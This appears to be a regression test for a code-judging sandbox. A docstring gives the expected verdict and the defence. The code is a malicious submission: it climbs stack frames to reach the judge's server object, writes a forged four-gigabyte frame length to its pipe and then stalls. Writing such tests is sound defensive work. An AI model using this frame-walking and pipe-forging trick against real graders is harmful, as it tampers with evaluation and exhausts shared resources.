"""
verdict = "PE"
points_at_most = 4
wall_s = 15
exploits = "Announces a frame of four gigabytes, so that the judge takes memory for it."
stops = "The announced length is held to the cap before anything is taken."
"""

import os
import sys
import time


def double(x):
    frame = sys._getframe()
    while "server" not in frame.f_locals:
        frame = frame.f_back
    os.write(frame.f_locals["server"].pipe.data_out, b"\xff\xff\xff\xff")
    time.sleep(1000)
